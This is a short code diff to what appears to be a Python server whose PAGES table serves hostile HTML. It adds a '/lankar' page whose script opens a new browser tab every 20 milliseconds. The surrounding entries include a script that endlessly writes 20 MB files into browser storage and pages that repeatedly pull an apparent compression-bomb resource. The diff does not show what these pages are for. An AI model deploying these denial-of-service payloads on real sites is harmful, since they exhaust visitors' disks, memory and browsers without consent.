@@ -50,6 +50,9 @@ PAGES = {
     " for (let n = 0; ; n++) { const file = await folder.getFileHandle(n, {create: true});"
     " const way = await file.createWritable(); await way.write(new Uint8Array(2e7).fill(7));"
     " await way.close(); } })()</script>",
+    "/lankar": POST.format(n=1) + "<script>setInterval(() => Object.assign("
+    "document.createElement('a'), {href: '/fonster', target: '_blank', rel: 'noopener'}).click(),"
+    " 20)</script>",
     "/bomb": POST.format(n=1) + "<script>fetch('/packad')</script>",
     "/bombmatta": POST.format(n=1) + "<img src=/packad?1><script src=/packad?2 async></script>"
     "<link rel=stylesheet href=/packad?3><video src=/packad?4 autoplay></video>"
